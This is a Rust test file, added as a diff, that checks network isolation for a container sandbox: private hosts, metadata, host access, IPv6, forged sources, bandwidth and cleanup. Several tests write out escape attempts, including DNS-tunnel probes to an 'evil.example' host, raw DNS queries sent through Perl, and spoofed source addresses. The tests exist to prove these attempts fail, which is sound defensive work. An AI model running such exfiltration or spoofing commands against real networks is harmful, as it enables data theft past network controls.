@@ -1,0 +1,430 @@
+//! Networks: what containers reach and what not, in a world of the test's own ([`crate::world`]).
+
+use std::{
+    io::{BufRead as _, BufReader},
+    time::{Duration, Instant},
+};
+
+use nix::sys::signal::Signal;
+
+use crate::{
+    binary::{kill, program, wait},
+    host::{Need, needs},
+    world::{BULK, BULK_BYTES, FIRST, HOST, METADATA, PRIVATE, SECOND, World, ip, with_world},
+};
+
+/// What every test here needs.
+macro_rules! needs_world {
+    ($($need:expr),* $(,)?) => {
+        needs!(
+            Need::Root,
+            Need::Containers,
+            Need::Program("ip"),
+            Need::Program("unshare"),
+            Need::Program("bash"),
+            $($need),*
+        )
+    };
+}
+
+/// Probes `targets` from a container; each must print what is beside it.
+#[track_caller]
+fn check(world: &World, network: &str, targets: &[(&str, u16, &str)]) {
+    let probes: Vec<String> =
+        targets.iter().map(|(host, port, _)| format!("probe {host} {port}")).collect();
+    let expect: Vec<&str> = targets.iter().map(|(.., expect)| *expect).collect();
+    let ended = world.script(network, &probes.join("\n")).expect(0);
+    let found: Vec<&str> = ended.stdout.lines().collect();
+    assert_eq!(found, expect, "network {network}, targets {targets:?}\n{}", ended.stderr);
+}
+
+#[test]
+fn none_reaches_nothing() {
+    needs_world!();
+    with_world(|world| {
+        let refused = [(FIRST, 80), (PRIVATE, 80), (METADATA, 80), (HOST, 8080)];
+        check(world, "none", &refused.map(|(host, port)| (host, port, "refused")));
+        assert!(world.asked.names().is_empty());
+    });
+}
+
+/// A1.18: the internet, but neither this host, nor private networks, nor metadata.
+#[test]
+fn full_reaches_the_internet_and_nothing_near() {
+    needs_world!();
+    with_world(|world| {
+        check(
+            world,
+            "full",
+            &[
+                (FIRST, 80, "world"),
+                (SECOND, 443, "world"),
+                ("listed.example", 80, "world"),
+                (PRIVATE, 80, "refused"),
+                ("private.example", 80, "refused"),
+                (METADATA, 80, "refused"),
+                (HOST, 8080, "refused"),
+                // The host's end of the link, as the container sees it.
+                ("$(ip -4 route show default | cut -d' ' -f3)", 8080, "refused"),
+                ("127.0.0.1", 8080, "refused"),
+            ],
+        );
+    });
+}
+
+/// What is listed by address is reached at that port, private and host addresses included.
+#[test]
+fn allow_by_address() {
+    needs_world!();
+    with_world(|world| {
+        let list = format!("198.51.100.0/24:443,{PRIVATE}:80,{HOST}:8080");
+        check(
+            world,
+            &list,
+            &[
+                (SECOND, 443, "world"),
+                (SECOND, 80, "refused"),
+                (FIRST, 443, "refused"),
+                (PRIVATE, 80, "world"),
+                (PRIVATE, 443, "refused"),
+                (METADATA, 80, "refused"),
+                (HOST, 8080, "host"),
+            ],
+        );
+    });
+}
+
+/// A1.19: a listed name opens its addresses at its port; nothing else of them, and no other name.
+#[test]
+fn allow_by_name() {
+    needs_world!();
+    with_world(|world| {
+        check(
+            world,
+            "listed.example:443,*.wild.example:80",
+            &[
+                // An address is nothing by itself: it is the name that is listed.
+                (SECOND, 443, "refused"),
+                ("listed.example", 443, "world"),
+                (SECOND, 443, "world"),
+                ("listed.example", 80, "refused"),
+                ("a.b.wild.example", 80, "world"),
+                ("wild.example", 80, "refused"),
+                ("other.example", 443, "refused"),
+                (FIRST, 443, "refused"),
+            ],
+        );
+    });
+}
+
+/// A1.19: whoever answers for a listed name cannot lead a container to private hosts.
+#[test]
+fn a_name_that_resolves_to_a_private_address_opens_nothing() {
+    needs_world!();
+    with_world(|world| {
+        check(world, "private.example:80", &[("private.example", 80, "refused")]);
+        let list = format!("private.example:80,{PRIVATE}:80");
+        check(world, &list, &[("private.example", 80, "world")]);
+    });
+}
+
+/// A1.19: no question leaves for a name that is not listed, or of a kind that could carry words,
+/// and no other server can be asked.
+#[test]
+fn names_carry_nothing_out() {
+    needs_world!(Need::Program("perl"));
+    with_world(|world| {
+        let script = r#"
+            probe secret.evil.example 80
+            perl -MSocket -e '
+                for my $server ("127.0.0.53", "192.0.2.53") {
+                    for my $name ("txt.listed.example", "listed.example") {
+                        socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
+                        my $q = join "", map { chr(length) . $_ } split /\./, $name;
+                        my $m = pack("nnnnnn", 7, 0x100, 1, 0, 0, 0) . $q . "\0" . pack("nn", 16, 1);
+                        send($s, $m, 0, sockaddr_in(53, inet_aton($server)));
+                        my $r = ""; vec(my $v = "", fileno($s), 1) = 1;
+                        my $got = select($v, undef, undef, 2) ? recv($s, $r, 512, 0) : undef;
+                        print "$server $name ", (defined $got && length $r ? "answered " . (unpack("n4", $r))[3] : "refused"), "\n";
+                    }
+                }'
+            for word in a b c; do probe $word.evil.example 443; done"#;
+        let ended = world.script("listed.example:443", script).expect(0);
+        assert_eq!(
+            ended.stdout,
+            "refused\n127.0.0.53 txt.listed.example answered 0\n\
+             127.0.0.53 listed.example answered 0\n192.0.2.53 txt.listed.example refused\n\
+             192.0.2.53 listed.example refused\nrefused\nrefused\nrefused\n",
+            "{}",
+            ended.stderr
+        );
+        assert_eq!(world.asked.names(), Vec::<String>::new(), "what left this host");
+    });
+}
+
+/// What was refused is told, by the name it was asked for.
+#[test]
+fn refusals_are_reported() {
+    needs_world!();
+    with_world(|world| {
+        let list = "listed.example:443";
+        let script = format!(
+            "for i in 1 2 3; do probe listed.example 80; done; probe {FIRST} 22; \
+             probe other.example 443; exit 7"
+        );
+        let ended = world.script(list, &script).expect(7);
+        for sentence in [
+            "tried 3 times to reach listed.example:80, not in the allow list",
+            "tried once to reach 192.0.2.10:22, not in the allow list",
+            "to reach other.example, not in the allow list",
+        ] {
+            assert!(ended.stderr.contains(sentence), "{sentence}\n{}", ended.text());
+        }
+    });
+}
+
+/// Learning prints a list with which the same command passes.
+#[test]
+fn learning_finds_the_list() {
+    needs_world!();
+    with_world(|world| {
+        let script = format!("probe listed.example 443; probe {FIRST} 80");
+        let ended = world.script("learn", &script).expect(0);
+        let list = "192.0.2.10:80,listed.example:443";
+        let sentence = format!("it needs `--network {list}`");
+        assert!(ended.stderr.contains(&sentence), "{}", ended.text());
+        assert_eq!(world.script(list, &script).expect(0).stdout, "world\nworld\n");
+    });
+}
+
+/// There is no way out by IPv6, with any network.
+#[test]
+fn ipv6_is_off() {
+    needs_world!();
+    with_world(|world| {
+        for network in ["none", "full", "listed.example:443"] {
+            let script = "ip -6 addr show dev eth0 2>/dev/null; ip -6 route show default; \
+                          probe 2001:db8::1 80; probe fe80::1%eth0 80";
+            let ended = world.script(network, script).expect(0);
+            assert_eq!(ended.stdout, "refused\nrefused\n", "{network}");
+        }
+        let ended = world.script("[2001:db8::/32]:443", "true").expect(125);
+        assert!(ended.stderr.contains("IPv6"), "{}", ended.text());
+    });
+}
+
+/// A started container that has printed its first line, its address.
+fn standing(world: &World, network: &str, script: &str) -> (std::process::Child, String) {
+    let script = format!("ip -4 -o addr show dev eth0 | sed 's/.*inet //;s,/.*,,'; {script}");
+    let mut child = world.start(network, &script);
+    let mut line = String::new();
+    let stdout = child.stdout.as_mut().expect("a pipe");
+    BufReader::new(stdout).read_line(&mut line).expect("the first line");
+    (child, line.trim().to_owned())
+}
+
+/// The process id of a container's init, on the host.
+fn init_of(child: &std::process::Child) -> u32 {
+    let below = |pid: u32| -> Vec<u32> {
+        let path = format!("/proc/{pid}/task/{pid}/children");
+        let list = std::fs::read_to_string(path).expect("children");
+        list.split_whitespace().map(|pid| pid.parse().expect("a number")).collect()
+    };
+    let spawner = below(child.id());
+    *below(*spawner.first().expect("a spawner")).first().expect("an init")
+}
+
+/// A1.18: two containers cannot reach each other, even where all private addresses are listed.
+#[test]
+fn containers_do_not_reach_each_other() {
+    needs_world!(Need::Program("perl"));
+    with_world(|world| {
+        let listen = "perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); \
+                      bind(S, sockaddr_in(80, INADDR_ANY)) or die; listen(S, 5); \
+                      while (accept(C, S)) { print C \"other\\n\"; close C }' & sleep 0.5; \
+                      probe 127.0.0.1 80; sleep 60";
+        let list = "10.0.0.0/8:80,172.16.0.0/12:80,192.168.0.0/16:80";
+        let (mut child, address) = standing(world, list, listen);
+        let mut line = String::new();
+        BufReader::new(child.stdout.as_mut().expect("a pipe")).read_line(&mut line).expect("line");
+        assert_eq!(line, "other\n", "its own way to itself is open");
+        for network in [list, "full"] {
+            let ended = world.script(network, &format!("probe {address} 80")).expect(0);
+            assert!(["refused\n", "lost\n"].contains(&ended.stdout.as_str()), "{}", ended.stdout);
+        }
+        kill(child.id(), Signal::SIGTERM);
+        wait(child);
+    });
+}
+
+/// Packets with a source address that is not the container's go nowhere.
+#[test]
+fn forged_sources_are_dropped() {
+    needs_world!(Need::Program("nsenter"));
+    with_world(|world| {
+        let (child, address) = standing(world, "full", "sleep 60");
+        let init = init_of(&child).to_string();
+        // Root of the host does in the container's namespace what the container cannot.
+        let inside = |command: &str| {
+            let output = program("nsenter")
+                .args(["--net", "--target", &init, "--", "bash", "-c", command])
+                .output()
+                .expect("run nsenter");
+            String::from_utf8_lossy(&output.stdout).into_owned()
+        };
+        let probe = format!("timeout 2 bash -c 'cat < /dev/tcp/{FIRST}/80' || echo nothing");
+        assert_eq!(inside(&probe), "world\n", "from {address}");
+        let forged = format!(
+            "ip addr add 192.0.2.77/32 dev eth0 && \
+             ip route replace default via $(ip -4 route show default | cut -d' ' -f3) \
+             src 192.0.2.77 dev eth0 && {probe}"
+        );
+        assert_eq!(inside(&forged), "nothing\n");
+        kill(child.id(), Signal::SIGTERM);
+        wait(child);
+    });
+}
+
+/// The rate limit holds in both directions, within a wide margin.
+#[test]
+fn bandwidth() {
+    needs_world!();
+    with_world(|world| {
+        let (sends, takes) = BULK;
+        let list = format!("{FIRST}:{sends},{FIRST}:{takes}");
+        let scripts = [
+            (format!("head -c {BULK_BYTES} < /dev/tcp/{FIRST}/{sends} | wc -c"), "1048576\n"),
+            (
+                format!(
+                    "exec 3<>/dev/tcp/{FIRST}/{takes}; head -c {BULK_BYTES} /dev/zero >&3; cat <&3"
+                ),
+                "taken\n",
+            ),
+        ];
+        for (script, expect) in scripts {
+            let command = ["--bandwidth", "4Mbit", "--", "bash", "-c", &script];
+            let arguments = [&["exec", "host", "--network", &list][..], &command].concat();
+            let ended = wait(world.command(&arguments).spawn().expect("start")).expect(0);
+            assert_eq!(ended.stdout, expect);
+            // A mebibyte takes 2.1 s at 4 Mbit/s, less what may go at once.
+            assert!(ended.took > Duration::from_millis(1500), "{script}: {:?}", ended.took);
+        }
+    });
+}
+
+/// What a run has made on this host: links, tables, and the setting that lets packets pass.
+fn made() -> Vec<String> {
+    let list = |name: &str, arguments: &[&str]| {
+        let output = program(name).args(arguments).output().expect("run");
+        String::from_utf8_lossy(&output.stdout).into_owned()
+    };
+    let links = list("ip", &["-o", "link"]);
+    let tables = list("nft", &["list", "tables"]);
+    let lines = links.lines().chain(tables.lines());
+    let mut made: Vec<String> = lines
+        .filter(|line| line.contains("cfd") || line.contains("cofferdam"))
+        .map(ToOwned::to_owned)
+        .collect();
+    let setting = list("cat", &["/proc/sys/net/ipv4/ip_forward"]);
+    if setting.trim() != "0" {
+        made.push("forwarding".to_owned());
+    }
+    made
+}
+
+#[track_caller]
+fn expect_nothing_left(after: &str) {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !made().is_empty() {
+        assert!(Instant::now() < deadline, "after {after}: {:#?}", made());
+        std::thread::sleep(Duration::from_millis(10));
+    }
+}
+
+/// No link, table or setting stays, however the run ends.
+#[test]
+fn nothing_is_left() {
+    needs_world!(Need::Program("nft"));
+    with_world(|world| {
+        expect_nothing_left("the beginning");
+        world.script("full", "exit 3").expect(3);
+        expect_nothing_left("an ordinary end");
+
+        let (mut child, _) = standing(world, "full", "sleep 60");
+        assert_eq!(made().len(), 3, "a link, a table and the setting: {:#?}", made());
+        kill(child.id(), Signal::SIGKILL);
+        child.wait().expect("wait");
+        expect_nothing_left("the runner's death");
+
+        let (mut child, _) = standing(world, "listed.example:443", "sleep 60");
+        let spawner = init_of(&child);
+        let stat = std::fs::read_to_string(format!("/proc/{spawner}/stat")).expect("stat");
+        let parent = stat.rsplit_once(") ").expect("stat").1.split(' ').nth(1).expect("a parent");
+        kill(parent.parse().expect("a number"), Signal::SIGKILL);
+        kill(child.id(), Signal::SIGKILL);
+        child.wait().expect("wait");
+        world.script("none", "true").expect(0);
+        expect_nothing_left("the death of runner and spawner, and the next start");
+    });
+}
+
+/// Where packets passed before, they go on passing, and other runs are not cut off.
+#[test]
+fn forwarding_that_was_on_stays_on() {
+    needs_world!();
+    with_world(|world| {
+        ip(&["link set lo up"]);
+        let on = program("sh").args(["-c", "echo 1 > /proc/sys/net/ipv4/ip_forward"]).status();
+        assert!(on.expect("run sh").success());
+        world.script("full", "true").expect(0);
+        let setting = program("cat").arg("/proc/sys/net/ipv4/ip_forward").output().expect("cat");
+        assert_eq!(setting.stdout, b"1\n");
+    });
+}
+
+/// While a run needs this host to pass packets on, it passes on nobody else's.
+#[test]
+fn the_host_is_no_router_for_others() {
+    needs_world!(Need::Program("nsenter"));
+    with_world(|world| {
+        // A third network behind the host, to which the world has a route.
+        let mut third = program("unshare").args(["--net", "sleep", "60"]).spawn().expect("unshare");
+        let pid = third.id().to_string();
+        let own = std::fs::read_link("/proc/self/ns/net").expect("a namespace");
+        let namespace = format!("/proc/{pid}/ns/net");
+        while std::fs::read_link(&namespace).is_ok_and(|it| it == own || it == host_namespace()) {
+            std::thread::yield_now();
+        }
+        ip(&[
+            &format!("link add side0 type veth peer name in1 netns {pid}"),
+            "addr add 203.0.113.1/24 dev side0",
+            "link set side0 up",
+        ]);
+        let reply = |command: &str| {
+            let arguments = ["--net", "--target", &pid, "--", "bash", "-c", command];
+            let output = program("nsenter").args(arguments).output().expect("run nsenter");
+            String::from_utf8_lossy(&output.stdout).into_owned()
+        };
+        reply(
+            "ip addr add 203.0.113.9/24 dev in1; ip link set in1 up; ip route add default via \
+             203.0.113.1",
+        );
+        world.route_back("203.0.113.0/24");
+        let probe = format!("timeout 2 bash -c 'cat < /dev/tcp/{FIRST}/80' || echo nothing");
+        let (child, _) = standing(world, "full", "sleep 60");
+        assert_eq!(reply(&probe), "nothing\n");
+        kill(child.id(), Signal::SIGTERM);
+        wait(child);
+        // Without our filter, and with forwarding on, it would have passed.
+        let on = program("sh").args(["-c", "echo 1 > /proc/sys/net/ipv4/ip_forward"]).status();
+        assert!(on.expect("run sh").success());
+        assert_eq!(reply(&probe), "world\n");
+        third.kill().expect("end the third network");
+        third.wait().expect("wait");
+    });
+}
+
+/// The namespace of this test's host.
+fn host_namespace() -> std::path::PathBuf {
+    std::fs::read_link("/proc/thread-self/ns/net").expect("a namespace")
+}
